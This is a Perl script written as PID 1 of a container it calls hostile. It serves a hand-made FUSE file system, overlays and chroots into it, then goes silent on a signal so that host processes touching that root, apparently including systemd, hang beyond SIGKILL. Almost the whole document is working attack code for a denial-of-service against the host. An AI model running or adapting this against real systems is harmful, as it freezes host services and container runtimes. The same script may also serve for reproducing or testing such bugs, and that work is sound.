# PID 1 of a hostile container: serves a FUSE file system, puts an overlay over it, makes that its
# root directory, and answers nothing any more. What asks that root then waits for this container,
# and SIGKILL does not help. Usage: systemd silent-root.pl overlay|fuse|run
# Source: linux/fuse.h of protocol 7.31; the numbers of system calls are those of x86-64.
use strict;
use warnings;
use Fcntl;

my $kind = shift;
my ($MOUNT, $UNSHARE) = (165, 272);
my ($ENOENT, $ENOSYS) = (2, 38);

sub mount_or_die {
    my ($source, $target, $type, $data) = @_;
    syscall($MOUNT, $source, $target, $type, 0, $data) == 0 or die "mount $type on $target: $!";
}

# struct fuse_attr of an empty directory
sub attributes {
    return pack 'Q6 L10', 1, 4096, 8, 0, 0, 0, 0, 0, 0, 040755, 2, 0, 0, 0, 4096, 0;
}

sub answer {
    my ($opcode, $request) = @_;
    return (0, pack 'L4 S2 L2 S2 L L7', 7, 31, 65536, 0, 12, 10, 65536, 1, 1, 0, 0, (0) x 7) if $opcode == 26;
    return (0, pack('Q L2', 0, 0, 0) . attributes()) if $opcode == 3;
    return (-$ENOENT, '') if $opcode == 1;
    return (0, pack 'Q5 L4 L6', 9, 9, 9, 9, 9, 4096, 255, 4096, 0, (0) x 6) if $opcode == 17;
    return (0, pack 'Q L2', 1, 0, 0) if $opcode == 27;
    return (0, '') if $opcode == 28 || $opcode == 29;
    return (-$ENOSYS, '');
}

# Answers until it is told not to by SIGUSR1; then it takes what comes and says nothing.
sub serve {
    my ($fuse) = @_;
    my $silent = 0;
    local $SIG{USR1} = sub { $silent = 1 };
    while (1) {
        my $read = sysread $fuse, my $request, 1 << 20;
        next if !defined $read;
        my (undef, $opcode, $unique) = unpack 'L2 Q', $request;
        next if $silent || $opcode == 2 || $opcode == 36 || $opcode == 42;
        my ($error, $body) = answer($opcode, $request);
        syswrite $fuse, pack('L l Q', 16 + length $body, $error, $unique) . $body;
    }
}

sysopen my $fuse, '/dev/fuse', O_RDWR or die "/dev/fuse: $!";
mkdir "/silent-$_" for qw(fuse empty root);
my $at = $kind eq 'run' ? '/run' : '/silent-fuse';
mount_or_die('evil', $at, 'fuse', sprintf 'fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other', fileno $fuse);
my $server = fork // die "fork: $!";
serve($fuse) if $server == 0;
close $fuse;
if ($kind eq 'overlay') {
    mount_or_die('overlay', '/silent-root', 'overlay', 'lowerdir=/silent-fuse:/silent-empty');
    $at = '/silent-root';
}
open my $said, '>', '/silent.txt' or die "/silent.txt: $!";
if ($kind ne 'run') {
    chroot $at or die "chroot: $!";
    chdir '/' or die "chdir: $!";
}
kill 'USR1', $server;
print $said "$kind\n";
close $said;
sleep 1000 while 1;
